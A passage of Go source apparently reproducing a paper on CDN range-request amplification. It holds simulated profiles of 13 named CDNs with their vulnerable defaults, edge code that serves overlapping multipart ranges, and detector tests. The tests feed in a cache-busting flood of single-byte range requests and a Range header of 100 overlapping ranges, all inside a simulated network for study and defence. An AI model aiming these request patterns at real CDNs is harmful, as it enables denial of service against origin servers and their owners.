