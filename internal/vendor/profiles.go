package vendor

import (
	"strings"

	"repro/internal/httpwire"
)

// fixedEdgeDate keeps edge responses byte-deterministic.
const fixedEdgeDate = "Mon, 29 Jun 2020 12:00:00 GMT"

// edgeHeaders builds a header template from name/value pairs and pads
// it with a trace-id header so the block serializes to exactly target
// bytes. The targets are calibrated from Table IV: the paper reports
// per-CDN client-side response sizes (the denominator of every SBR
// amplification factor) that differ only by the response headers each
// CDN inserts, so reproducing the factor slopes requires reproducing
// the header volume, not the exact header names.
func edgeHeaders(target int, pairs ...string) func() httpwire.Headers {
	if len(pairs)%2 != 0 {
		panic("vendor: edgeHeaders needs name/value pairs")
	}
	return func() httpwire.Headers {
		hs := make(httpwire.Headers, 0, len(pairs)/2+1)
		for i := 0; i < len(pairs); i += 2 {
			hs.Add(pairs[i], pairs[i+1])
		}
		const fill = "X-Edge-Trace"
		if pad := target - hs.WireSize() - (len(fill) + 4); pad > 0 {
			hs.Add(fill, traceID(pad))
		}
		return hs
	}
}

// traceID returns a deterministic hex-like string of length n.
func traceID(n int) string {
	const alphabet = "0123456789abcdef"
	var b strings.Builder
	b.Grow(n)
	for i := 0; i < n; i++ {
		b.WriteByte(alphabet[(i*7+3)%16])
	}
	return b.String()
}

// Akamai returns the Akamai profile: Deletion for every shape
// (Table I), overlapping multipart replies (Table III), 32 KB total
// request-header limit, and the smallest edge header set of the 13
// (hence the largest Fig 6 slope, up to 43093x at 25 MB).
func Akamai() *Profile {
	return &Profile{
		Name:              "akamai",
		DisplayName:       "Akamai",
		Behaviour:         simpleDeletion,
		MultiRangeReply:   ReplyServeAll,
		MultipartBoundary: "akamaighost-3d29c3fa58b21b0c9f27d14e6a85c7e01b2d4f60",
		EdgeHeaders: edgeHeaders(480,
			"Server", "AkamaiGHost",
			"Mime-Version", "1.0",
			"Date", fixedEdgeDate,
			"Connection", "keep-alive",
			"Expires", fixedEdgeDate,
			"Cache-Control", "max-age=604800",
			"X-Check-Cacheable", "YES",
			"Accept-Ranges", "bytes",
		),
		Limits:         HeaderLimits{MaxTotalHeaderBytes: 32 << 10},
		CacheByDefault: true,
	}
}

// AlibabaCloud returns the Alibaba Cloud profile: Deletion for
// "-suffix" shapes when the vendor Range option is disable (the
// default here), and the heaviest edge header set of the 13.
func AlibabaCloud() *Profile {
	return &Profile{
		Name:              "alibaba",
		DisplayName:       "Alibaba Cloud",
		Behaviour:         alibabaBehaviour,
		Options:           Options{RangeOptionVulnerable: true},
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "ALIYUN-CDN-BOUNDARY-2f81a6c4",
		EdgeHeaders: edgeHeaders(871,
			"Server", "Tengine",
			"Date", fixedEdgeDate,
			"Connection", "keep-alive",
			"Via", "cache13.l2et15-1[0,206-0,H], cache52.l2et15-1[0,0], kunlun9.cn2201[0,206-0,H], kunlun6.cn2201[1,0]",
			"Age", "0",
			"Ali-Swift-Global-Savetime", "1593432000",
			"X-Cache", "HIT TCP_MEM_HIT dirn:-2:-2",
			"X-Swift-SaveTime", fixedEdgeDate,
			"X-Swift-CacheTime", "86400",
			"Timing-Allow-Origin", "*",
			"EagleId", "2f81a6c415934320001234567e",
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// Azure returns the Azure CDN profile: Deletion with the 8 MiB cutoff
// plus window Expansion (§V-A(2)), overlapping multipart replies capped
// at 64 ranges (Tables III and V).
func Azure() *Profile {
	return &Profile{
		Name:               "azure",
		DisplayName:        "Azure",
		Behaviour:          azureBehaviour,
		MultiRangeReply:    ReplyServeAll,
		MaxPartsThenIgnore: 64,
		MultipartBoundary:  "msedge-a1b2c3d4e5f6",
		PartExtraHeaders: func() httpwire.Headers {
			var hs httpwire.Headers
			hs.Add("X-Cache", "TCP_MISS")
			hs.Add("X-MSEdge-Ref", "Ref A: "+strings.ToUpper(traceID(32))+" Ref B: EDGE01 Ref C: 2020-06-29T12:00:00Z")
			hs.Add("X-Azure-RequestChain", "hops=2; reqid="+traceID(32))
			hs.Add("Server", "ECAcc (lha/5SDA)")
			return hs
		}(),
		EdgeHeaders: edgeHeaders(600,
			"Server", "ECAcc (lha/5SDA)",
			"Date", fixedEdgeDate,
			"X-Cache", "TCP_MISS from ECAcc (lha/5SDA)",
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// CDN77 returns the CDN77 profile: Deletion only for "first-last" with
// first < 1024, Laziness otherwise (which makes it a Table II FCDN),
// with a 16 KB single-header limit.
func CDN77() *Profile {
	return &Profile{
		Name:              "cdn77",
		DisplayName:       "CDN77",
		Behaviour:         cdn77Behaviour,
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "cdn77-f0e1d2c3b4a5",
		EdgeHeaders: edgeHeaders(521,
			"Server", "CDN77-Turbo",
			"Date", fixedEdgeDate,
			"X-77-NZT", "AAEDhg==",
			"X-77-Cache", "HIT",
			"X-77-POP", "londonUK",
			"Accept-Ranges", "bytes",
		),
		Limits:         HeaderLimits{MaxSingleHeaderBytes: 16 << 10},
		CacheByDefault: true,
	}
}

// CDNsun returns the CDNsun profile: Deletion for 0-anchored ranges,
// Laziness for the rest (Table II's start1 >= 1 shape), 16 KB
// single-header limit.
func CDNsun() *Profile {
	return &Profile{
		Name:              "cdnsun",
		DisplayName:       "CDNsun",
		Behaviour:         cdnsunBehaviour,
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "cdnsun-00112233445566",
		EdgeHeaders: edgeHeaders(549,
			"Server", "CDNsun",
			"Date", fixedEdgeDate,
			"X-Cache", "MISS",
			"X-Edge-Location", "frankfurtDE",
			"Accept-Ranges", "bytes",
		),
		Limits:         HeaderLimits{MaxSingleHeaderBytes: 16 << 10},
		CacheByDefault: true,
	}
}

// Cloudflare returns the Cloudflare profile. With the default Cacheable
// rule it strips every Range shape (SBR-vulnerable); with the Bypass
// option it turns into a lazy proxy (the Table II FCDN position). Its
// request-header constraint is the empirical RL + 2·HHL + RHL formula.
func Cloudflare() *Profile {
	return &Profile{
		Name:              "cloudflare",
		DisplayName:       "Cloudflare",
		Behaviour:         cloudflareBehaviour,
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "cloudflare-9a8b7c6d5e4f",
		EdgeHeaders: edgeHeaders(695,
			"Server", "cloudflare",
			"Date", fixedEdgeDate,
			"CF-Ray", "5aa1b2c3d4e5f607-LHR",
			"CF-Cache-Status", "HIT",
			"Age", "0",
			"Expect-CT", `max-age=604800, report-uri="https://report-uri.cloudflare.com/cdn-cgi/beacon/expect-ct"`,
			"Set-Cookie", "__cfduid="+traceID(43)+"; expires=Wed, 29-Jul-20 12:00:00 GMT; path=/; domain=.example.com; HttpOnly; SameSite=Lax",
			"Vary", "Accept-Encoding",
			"Accept-Ranges", "bytes",
		),
		Limits:         HeaderLimits{CloudflareFormula: true},
		CacheByDefault: true,
	}
}

// CloudFront returns the CloudFront profile: the pure Expansion policy
// with 1 MiB alignment and the 10 MiB multi-range collapse (§V-A(3)).
func CloudFront() *Profile {
	return &Profile{
		Name:              "cloudfront",
		DisplayName:       "CloudFront",
		Behaviour:         cloudFrontBehaviour,
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "cf-aws-0123456789abcdef",
		PartExtraHeaders: func() httpwire.Headers {
			var hs httpwire.Headers
			hs.Add("X-Amz-Cf-Id", strings.ToUpper(traceID(32)))
			return hs
		}(),
		EdgeHeaders: edgeHeaders(645,
			"Server", "AmazonS3",
			"Date", fixedEdgeDate,
			"X-Cache", "Miss from cloudfront",
			"Via", "1.1 "+traceID(32)+".cloudfront.net (CloudFront)",
			"X-Amz-Cf-Pop", "LHR62-C2",
			"X-Amz-Cf-Id", strings.ToUpper(traceID(52)),
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// Fastly returns the Fastly profile: unconditional Deletion.
func Fastly() *Profile {
	return &Profile{
		Name:              "fastly",
		DisplayName:       "Fastly",
		Behaviour:         simpleDeletion,
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "fastly-varnish-8f7e6d5c",
		EdgeHeaders: edgeHeaders(696,
			"Server", "Artisanal bits",
			"Date", fixedEdgeDate,
			"Via", "1.1 varnish",
			"X-Served-By", "cache-lhr7322-LHR",
			"X-Cache", "MISS",
			"X-Cache-Hits", "0",
			"X-Timer", "S1593432000.000000,VS0,VE102",
			"Fastly-Debug-Digest", traceID(64),
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// GCoreLabs returns the G-Core Labs profile: unconditional Deletion
// with the leanest header set after Akamai (43330x at 25 MB).
func GCoreLabs() *Profile {
	return &Profile{
		Name:              "gcore",
		DisplayName:       "G-Core Labs",
		Behaviour:         simpleDeletion,
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "gcore-11223344",
		EdgeHeaders: edgeHeaders(477,
			"Server", "nginx",
			"Date", fixedEdgeDate,
			"Cache", "MISS",
			"X-ID", "m9-up-gc01",
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// HuaweiCloud returns the Huawei Cloud profile with its F-conditional
// Deletion (Table I) behind the vendor Range option (vulnerable when
// the option is enabled, the default here).
func HuaweiCloud() *Profile {
	return &Profile{
		Name:              "huawei",
		DisplayName:       "Huawei Cloud",
		Behaviour:         huaweiBehaviour,
		Options:           Options{RangeOptionVulnerable: true},
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "hcdn-55667788",
		EdgeHeaders: edgeHeaders(593,
			"Server", "CDN",
			"Date", fixedEdgeDate,
			"X-HCS-Proxy-Type", "1",
			"X-CCDN-CacheTTL", "86400",
			"X-CCDN-Expire", "86400",
			"Age", "0",
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// KeyCDN returns the KeyCDN profile: Laziness on the first sighting of
// a "first-last" request and Deletion on the repeat (§V-A(4)) — the
// attacker sends each request twice, so the client-side traffic doubles
// (the paper's Fig 6b outlier).
func KeyCDN() *Profile {
	return &Profile{
		Name:              "keycdn",
		DisplayName:       "KeyCDN",
		Behaviour:         keyCDNBehaviour,
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "keycdn-99aabbcc",
		EdgeHeaders: edgeHeaders(497,
			"Server", "keycdn-engine",
			"Date", fixedEdgeDate,
			"X-Cache", "MISS",
			"X-Shield", "active",
			"X-Edge-Location", "defr",
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// StackPath returns the StackPath profile: Laziness, re-forwarding
// without the Range header after a 206 (§V-A(5)); serves overlapping
// multipart replies (Table III); ~81 KB total header limit.
func StackPath() *Profile {
	return &Profile{
		Name:              "stackpath",
		DisplayName:       "StackPath",
		Behaviour:         stackPathBehaviour,
		MultiRangeReply:   ReplyServeAll,
		MultipartBoundary: "stackpath-highwinds-0f1e2d3c4b5a69788796a5b4c3d2e1f0a1b2c3d4e5f6a7b8",
		EdgeHeaders: edgeHeaders(679,
			"Server", "HighwindsCS",
			"Date", fixedEdgeDate,
			"X-HW", "1593432000.cds035.lo1.c",
			"X-Cache", "MISS",
			"Accept-Ranges", "bytes",
		),
		Limits:         HeaderLimits{MaxTotalHeaderBytes: 81 << 10},
		CacheByDefault: true,
	}
}

// TencentCloud returns the Tencent Cloud profile: Deletion for
// "first-last" behind the vendor Range option (disable = vulnerable,
// the default here).
func TencentCloud() *Profile {
	return &Profile{
		Name:              "tencent",
		DisplayName:       "Tencent Cloud",
		Behaviour:         tencentBehaviour,
		Options:           Options{RangeOptionVulnerable: true},
		MultiRangeReply:   ReplyCoalesce,
		MultipartBoundary: "tcdn-ddeeff00",
		EdgeHeaders: edgeHeaders(680,
			"Server", "NWS_SPMid",
			"Date", fixedEdgeDate,
			"X-Cache-Lookup", "Cache Miss",
			"X-NWS-LOG-UUID", traceID(16)+" "+traceID(16),
			"X-Daa-Tunnel", "hop_count=1",
			"Accept-Ranges", "bytes",
		),
		CacheByDefault: true,
	}
}

// All returns the 13 profiles in the paper's order.
func All() []*Profile {
	return []*Profile{
		Akamai(), AlibabaCloud(), Azure(), CDN77(), CDNsun(), Cloudflare(),
		CloudFront(), Fastly(), GCoreLabs(), HuaweiCloud(), KeyCDN(),
		StackPath(), TencentCloud(),
	}
}

// ByName looks a profile up by its short Name.
func ByName(name string) (*Profile, bool) {
	for _, p := range All() {
		if p.Name == name {
			return p, true
		}
	}
	return nil, false
}

// Names returns the 13 short names in paper order.
func Names() []string {
	all := All()
	out := make([]string, len(all))
	for i, p := range all {
		out[i] = p.Name
	}
	return out
}
