// Package vendor encodes the range-handling behaviour of the 13 CDNs
// the paper studies (§III, Tables I–III) as declarative-plus-procedural
// profiles that the internal/cdn proxy engine interprets.
//
// Each Profile carries:
//   - a Behaviour: the vendor's back-to-origin strategy for a given
//     client Range header (Laziness / Deletion / Expansion, including
//     the stateful variants KeyCDN and StackPath exhibit),
//   - a reply policy for multi-range requests (coalesce vs. serve-all),
//   - the vendor's request-header size limits (which bound the OBR
//     attack's maximum n),
//   - the vendor's edge response headers (whose size sets each CDN's
//     Fig 6 amplification slope), and
//   - configuration options mirroring the conditional entries of
//     Table I (the Alibaba/Tencent/Huawei "Range" option, Cloudflare
//     cache rules).
//
// The profiles' default configurations are the vulnerable ones the
// paper exploits; tests flip the options to verify the conditions.
package vendor

import (
	"errors"
	"strconv"
	"strings"
	"sync"

	"repro/internal/httpwire"
	"repro/internal/ranges"
)

// ForwardPolicy names the three Range-header forwarding policies of §III-B.
type ForwardPolicy int

// The forwarding policies.
const (
	Laziness  ForwardPolicy = iota + 1 // forward the Range header unchanged
	Deletion                           // remove the Range header
	Expansion                          // extend it to a larger byte range
)

// String returns the paper's name for the policy.
func (p ForwardPolicy) String() string {
	switch p {
	case Laziness:
		return "Laziness"
	case Deletion:
		return "Deletion"
	case Expansion:
		return "Expansion"
	default:
		return "Unknown"
	}
}

// ReplyPolicy is how an edge answers a multi-range request when it
// holds the full object.
type ReplyPolicy int

// The reply policies. ReplyServeAll is the Table III vulnerability:
// every requested range becomes a body part without overlap checking.
const (
	ReplyCoalesce ReplyPolicy = iota + 1 // merge overlapping/adjacent ranges (RFC 7233 §6.1)
	ReplyServeAll                        // one part per range, overlap unchecked
	ReplyReject                          // refuse overlapping multi-range requests outright
)

// Upstream lets a Behaviour issue back-to-origin requests. The engine
// provides an implementation that dials the upstream address and
// accounts traffic on the right segment.
type Upstream interface {
	// Fetch sends one upstream request. rangeHeader is the Range header
	// value to use ("" sends no Range header). maxBody > 0 makes the
	// fetch abort the connection after maxBody payload bytes, returning
	// truncated=true (the Azure §V-A first-connection behaviour).
	Fetch(rangeHeader string, maxBody int64) (resp *httpwire.Response, truncated bool, err error)
}

// RequestContext is what a Behaviour sees of the client request.
type RequestContext struct {
	Raw      string     // raw Range header value, "" if absent
	HasRange bool       // Range header present
	Set      ranges.Set // parsed set, nil when absent or unparseable
	Path     string     // request path (no query)
	SizeHint int64      // learned size of the resource, 0 when unknown
	State    *EdgeState // per-edge persistent memory
	Key      string     // cache key of the request
}

// Retrieval is a Behaviour's outcome: either a response to relay to the
// client unchanged (the Laziness path) or an object view to build the
// client reply from (the Deletion/Expansion paths).
type Retrieval struct {
	Relay  *httpwire.Response
	Object *Object
}

// Behaviour executes one vendor's back-to-origin strategy. opts is the
// profile's live option block, so flipping a profile's Options changes
// behaviour without rebuilding it.
type Behaviour func(up Upstream, rc *RequestContext, opts *Options) (*Retrieval, error)

// Options mirror the conditional entries of Table I.
type Options struct {
	// RangeOptionVulnerable reflects the vendor "Range" back-to-origin
	// option in its *vulnerable* position (Alibaba/Tencent: disable,
	// Huawei: enable). Profiles default to true; setting false removes
	// the SBR vulnerability for those vendors.
	RangeOptionVulnerable bool

	// CloudflareBypass marks the target path as a Bypass cache rule.
	// Cacheable (false, the default) is the SBR-vulnerable position;
	// Bypass (true) is the OBR-vulnerable (FCDN) position.
	CloudflareBypass bool
}

// Profile is one CDN's complete range-handling description.
type Profile struct {
	Name        string // short identifier, e.g. "akamai"
	DisplayName string // paper name, e.g. "Akamai"

	Behaviour Behaviour
	Options   Options

	// Reply construction.
	MultiRangeReply    ReplyPolicy
	MaxPartsThenIgnore int    // >0: ignore the Range header beyond this many ranges (Azure: 64)
	MultipartBoundary  string // boundary for edge-built multipart replies
	PartExtraHeaders   httpwire.Headers

	// Edge-inserted response headers (size calibrates the Fig 6 slope).
	EdgeHeaders func() httpwire.Headers

	// Inbound request-header limits (bound the OBR max n).
	Limits HeaderLimits

	// CacheByDefault reports whether full 200 responses are cached.
	CacheByDefault bool
}

// Clone returns a deep-enough copy whose Options can be flipped without
// affecting the original profile.
func (p *Profile) Clone() *Profile {
	c := *p
	c.PartExtraHeaders = p.PartExtraHeaders.Clone()
	return &c
}

// Object is a retrieved view of the target resource.
type Object struct {
	Offset         int64 // absolute offset of Body within the resource
	CompleteSize   int64 // full resource size, -1 when unknown
	Body           []byte
	UpstreamStatus int
	ContentType    string
	Truncated      bool // the upstream transfer was cut short
}

// Complete reports whether Body is the whole resource.
func (o *Object) Complete() bool {
	return o.Offset == 0 && !o.Truncated && o.CompleteSize == int64(len(o.Body))
}

// Covers reports whether the object contains the resolved window.
func (o *Object) Covers(w ranges.Resolved) bool {
	return w.Offset >= o.Offset && w.End() <= o.Offset+int64(len(o.Body))-1
}

// Slice returns the window's bytes from the object; the window must be
// covered.
func (o *Object) Slice(w ranges.Resolved) []byte {
	lo := w.Offset - o.Offset
	return o.Body[lo : lo+w.Length]
}

// ErrUpstreamShape marks upstream responses a behaviour cannot interpret.
var ErrUpstreamShape = errors.New("vendor: uninterpretable upstream response")

// ObjectFromResponse derives an Object from an upstream 200 or
// single-part 206 response. Multipart 206 responses cannot become
// objects (relay those instead).
func ObjectFromResponse(resp *httpwire.Response, truncated bool) (*Object, error) {
	ct, _ := resp.Headers.Get("Content-Type")
	obj := &Object{
		Body:           resp.Body,
		UpstreamStatus: resp.StatusCode,
		ContentType:    ct,
		Truncated:      truncated,
		CompleteSize:   -1,
	}
	switch resp.StatusCode {
	case httpwire.StatusOK:
		obj.CompleteSize = int64(len(resp.Body))
		if cl, ok := resp.Headers.Get("Content-Length"); ok {
			if n, err := strconv.ParseInt(cl, 10, 64); err == nil {
				obj.CompleteSize = n // larger than len(Body) when truncated
			}
		}
		return obj, nil
	case httpwire.StatusPartialContent:
		cr, ok := resp.Headers.Get("Content-Range")
		if !ok {
			return nil, ErrUpstreamShape
		}
		offset, complete, err := parseContentRange(cr)
		if err != nil {
			return nil, err
		}
		obj.Offset = offset
		obj.CompleteSize = complete
		return obj, nil
	default:
		return nil, ErrUpstreamShape
	}
}

// parseContentRange parses "bytes a-b/L" ("L" may be "*").
func parseContentRange(v string) (offset, complete int64, err error) {
	v = strings.TrimSpace(v)
	rest, found := strings.CutPrefix(v, "bytes ")
	if !found {
		return 0, 0, ErrUpstreamShape
	}
	rangePart, sizePart, found := strings.Cut(rest, "/")
	if !found {
		return 0, 0, ErrUpstreamShape
	}
	firstStr, _, found := strings.Cut(rangePart, "-")
	if !found {
		return 0, 0, ErrUpstreamShape
	}
	first, err := strconv.ParseInt(firstStr, 10, 64)
	if err != nil {
		return 0, 0, ErrUpstreamShape
	}
	if sizePart == "*" {
		return first, -1, nil
	}
	size, err := strconv.ParseInt(sizePart, 10, 64)
	if err != nil {
		return 0, 0, ErrUpstreamShape
	}
	return first, size, nil
}

// EdgeState is per-edge persistent memory: learned resource sizes
// (Huawei's F-conditional behaviour) and per-request-signature counts
// (KeyCDN's lazy-then-delete second request).
type EdgeState struct {
	mu    sync.Mutex
	sizes map[string]int64
	seen  map[string]int
}

// NewEdgeState returns empty state.
func NewEdgeState() *EdgeState {
	return &EdgeState{sizes: make(map[string]int64), seen: make(map[string]int)}
}

// LearnSize records the resource size for a path.
func (s *EdgeState) LearnSize(path string, size int64) {
	if s == nil || size <= 0 {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.sizes[path] = size
}

// SizeHint returns the learned size for a path, 0 when unknown.
func (s *EdgeState) SizeHint(path string) int64 {
	if s == nil {
		return 0
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.sizes[path]
}

// BumpSeen increments and returns the occurrence count of a request
// signature (key + raw range).
func (s *EdgeState) BumpSeen(signature string) int {
	if s == nil {
		return 1
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.seen[signature]++
	return s.seen[signature]
}
