package cdn

import (
	"fmt"
	"strconv"

	"repro/internal/httpwire"
	"repro/internal/multipart"
	"repro/internal/ranges"
	"repro/internal/vendor"
)

// replyFromObject builds the client-facing response for a request whose
// retrieval produced an object view of the resource. This is where the
// Table III vulnerability lives: a ReplyServeAll profile turns n
// overlapping ranges into an n-part body.
func (e *Edge) replyFromObject(req *httpwire.Request, set ranges.Set, hasRange bool, obj *vendor.Object) *httpwire.Response {
	size := obj.CompleteSize
	if size < 0 {
		size = obj.Offset + int64(len(obj.Body))
	}

	ignoreRange := !hasRange || set == nil
	if maxParts := e.profile.MaxPartsThenIgnore; !ignoreRange && maxParts > 0 && len(set) > maxParts {
		// The Azure rule: beyond 64 ranges the Range header is ignored.
		ignoreRange = true
	}
	if !ignoreRange && e.profile.MultiRangeReply == vendor.ReplyReject &&
		len(set) > 1 && set.Overlapping(size) {
		e.mRejectOverlap.Inc()
		return e.errorResponse(httpwire.StatusBadRequest, "overlapping byte ranges rejected")
	}

	if ignoreRange {
		return e.fullReply(req, obj, size)
	}

	windows := set.Resolve(size)
	covered := windows[:0]
	for _, w := range windows {
		if obj.Covers(w) {
			covered = append(covered, w)
		}
	}
	if len(covered) == 0 {
		return e.unsatisfiableReply(size)
	}
	if e.profile.MultiRangeReply == vendor.ReplyCoalesce && len(covered) > 1 {
		covered = ranges.Coalesce(covered)
	}
	if len(covered) == 1 {
		return e.singleRangeReply(req, obj, covered[0], size)
	}
	return e.multipartReply(req, obj, covered, size)
}

// fullReply serves the object as a 200. An incomplete object (a
// truncated Azure prefix being served to a rangeless request) is still
// answered 200 with the bytes at hand, mirroring a proxy relaying a
// cut-short transfer.
func (e *Edge) fullReply(req *httpwire.Request, obj *vendor.Object, size int64) *httpwire.Response {
	resp := e.newEdgeResponse(httpwire.StatusOK)
	resp.Headers.Add("Content-Type", obj.ContentType)
	if req.Method == "HEAD" {
		resp.Headers.Add("Content-Length", strconv.FormatInt(size, 10))
		return resp
	}
	resp.SetBody(obj.Body)
	return resp
}

func (e *Edge) singleRangeReply(req *httpwire.Request, obj *vendor.Object, w ranges.Resolved, size int64) *httpwire.Response {
	resp := e.newEdgeResponse(httpwire.StatusPartialContent)
	resp.Headers.Add("Content-Range", w.ContentRange(size))
	resp.Headers.Add("Content-Type", obj.ContentType)
	if req.Method == "HEAD" {
		resp.Headers.Add("Content-Length", strconv.FormatInt(w.Length, 10))
		return resp
	}
	resp.SetBody(obj.Slice(w))
	return resp
}

func (e *Edge) multipartReply(req *httpwire.Request, obj *vendor.Object, ws []ranges.Resolved, size int64) *httpwire.Response {
	msg := &multipart.Message{
		Boundary:       e.profile.MultipartBoundary,
		CompleteLength: size,
	}
	for _, w := range ws {
		msg.Parts = append(msg.Parts, multipart.Part{
			ContentType: obj.ContentType,
			Window:      w,
			Extra:       e.profile.PartExtraHeaders,
			Data:        obj.Slice(w),
		})
	}
	resp := e.newEdgeResponse(httpwire.StatusPartialContent)
	resp.Headers.Add("Content-Type", msg.ContentTypeValue())
	if req.Method == "HEAD" {
		resp.Headers.Add("Content-Length", strconv.FormatInt(msg.EncodedSize(), 10))
		return resp
	}
	// Stream the n-part body straight from the object's backing bytes —
	// for an OBR reply this body is the amplified flood itself, so never
	// materializing it is the single biggest allocation win on the edge.
	resp.SetBodyStream(msg, msg.EncodedSize())
	return resp
}

func (e *Edge) unsatisfiableReply(size int64) *httpwire.Response {
	resp := e.newEdgeResponse(httpwire.StatusRangeNotSatisfiable)
	resp.Headers.Add("Content-Range", fmt.Sprintf("bytes */%d", size))
	resp.SetBody(nil)
	return resp
}

// newEdgeResponse starts a response carrying this vendor's edge headers.
func (e *Edge) newEdgeResponse(status int) *httpwire.Response {
	resp := httpwire.NewResponse(status)
	resp.Headers = e.profile.EdgeHeaders()
	return resp
}
