package cdn

import (
	"fmt"
	"strings"
	"testing"

	"repro/internal/detect"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
	"repro/internal/workload"
)

// newInspectedRig builds a topology whose edge screens requests with
// the §VI-C detector.
func newInspectedRig(t *testing.T, profile *vendor.Profile, size int64) (*rig, *detect.Detector) {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", size, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true})

	net := netsim.NewNetwork()
	originL, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go osrv.Serve(originL)
	t.Cleanup(func() { originL.Close() })

	detector := detect.New(detect.Config{SmallBustingThreshold: 8})
	originSeg := netsim.NewSegment("cdn-origin")
	edge, err := NewEdge(Config{
		Profile:      profile,
		Network:      net,
		UpstreamAddr: "origin:80",
		UpstreamSeg:  originSeg,
		Inspector:    detector,
	})
	if err != nil {
		t.Fatal(err)
	}
	edgeL, err := net.Listen("edge:80")
	if err != nil {
		t.Fatal(err)
	}
	go edge.Serve(edgeL)
	t.Cleanup(func() { edgeL.Close() })

	return &rig{
		net: net, edge: edge, origin: osrv,
		clientSeg: netsim.NewSegment("client-cdn"),
		originSeg: originSeg,
	}, detector
}

func TestInspectorBlocksSBRFlood(t *testing.T) {
	const size = 1 << 20
	r, detector := newInspectedRig(t, vendor.Cloudflare(), size)

	blocked := 0
	for i := 0; i < 40; i++ {
		resp := r.get(t, fmt.Sprintf("/target.bin?cb=%d", i), "bytes=0-0")
		if resp.StatusCode == 403 {
			blocked++
		}
	}
	if blocked < 30 {
		t.Errorf("blocked %d/40 flood requests, want most after the threshold", blocked)
	}
	// Origin traffic is bounded by the pre-threshold requests.
	if down := r.originSeg.Traffic().Down; down > 10*size {
		t.Errorf("origin still shipped %d bytes under detection", down)
	}
	if st := detector.Stats(); st.FlaggedSBR == 0 {
		t.Errorf("detector stats: %+v", st)
	}
}

func TestInspectorBlocksOBRRequest(t *testing.T) {
	r, detector := newInspectedRig(t, vendor.Akamai(), 1024)
	resp := r.get(t, "/target.bin", "bytes=0-"+strings.Repeat(",0-", 99))
	if resp.StatusCode != 403 {
		t.Fatalf("status = %d, want 403", resp.StatusCode)
	}
	if n := len(r.origin.Log()); n != 0 {
		t.Errorf("origin saw %d requests, want 0 (blocked before fetch)", n)
	}
	if st := detector.Stats(); st.FlaggedOBR != 1 {
		t.Errorf("detector stats: %+v", st)
	}
}

func TestInspectorPassesBenignWorkload(t *testing.T) {
	const size = 16 << 20
	r, _ := newInspectedRig(t, vendor.CDN77(), size)
	g := workload.NewGenerator(17)

	reqs := g.VideoSeek("/target.bin", size, 1<<20, 30)
	reqs = append(reqs, g.ParallelDownload("/target.bin", size, 4)...)
	reqs = append(reqs, g.TailProbe("/target.bin", 4096)...)
	reqs = append(reqs, g.ResumeDownload("/target.bin", size))

	for i, req := range reqs {
		resp, err := origin.Fetch(r.net, "edge:80", r.clientSeg, req.Clone())
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode == 403 {
			raw, _ := req.Headers.Get("Range")
			t.Fatalf("benign request %d blocked (%s)", i, raw)
		}
		if resp.StatusCode != 200 && resp.StatusCode != 206 {
			t.Fatalf("benign request %d: status %d", i, resp.StatusCode)
		}
	}
}

func TestInspectorNilIsOff(t *testing.T) {
	r := newRig(t, vendor.Cloudflare(), 4096, true)
	for i := 0; i < 40; i++ {
		resp := r.get(t, fmt.Sprintf("/target.bin?cb=%d", i), "bytes=0-0")
		if resp.StatusCode == 403 {
			t.Fatal("blocked without an inspector")
		}
	}
}

var _ Inspector = (*detect.Detector)(nil)
