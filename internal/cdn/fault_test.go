package cdn

import (
	"testing"

	"repro/internal/httpwire"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// newFaultyRig builds a topology whose origin aborts connections after
// failAfter body bytes.
func newFaultyRig(t *testing.T, profile *vendor.Profile, size, failAfter int64) *rig {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", size, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true, FailAfterBodyBytes: failAfter})

	net := netsim.NewNetwork()
	originL, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go osrv.Serve(originL)
	t.Cleanup(func() { originL.Close() })

	originSeg := netsim.NewSegment("cdn-origin")
	edge, err := NewEdge(Config{
		Profile: profile, Network: net,
		UpstreamAddr: "origin:80", UpstreamSeg: originSeg,
	})
	if err != nil {
		t.Fatal(err)
	}
	edgeL, err := net.Listen("edge:80")
	if err != nil {
		t.Fatal(err)
	}
	go edge.Serve(edgeL)
	t.Cleanup(func() { edgeL.Close() })

	return &rig{net: net, edge: edge, origin: osrv,
		clientSeg: netsim.NewSegment("client-cdn"), originSeg: originSeg}
}

func TestEdgeSurvivesTruncatedOrigin(t *testing.T) {
	// The origin dies 4 KB into a 64 KB transfer; the edge must answer
	// the client with an error, not hang or crash.
	r := newFaultyRig(t, vendor.Cloudflare(), 64<<10, 4<<10)
	resp := r.get(t, "/target.bin?cb=1", "bytes=0-0")
	if resp.StatusCode != httpwire.StatusBadGateway {
		t.Fatalf("status = %d, want 502 on truncated upstream", resp.StatusCode)
	}
	// The edge must not cache the partial body.
	if r.edge.Cache().Len() != 0 {
		t.Error("truncated object was cached")
	}
	// The edge stays serviceable for subsequent requests.
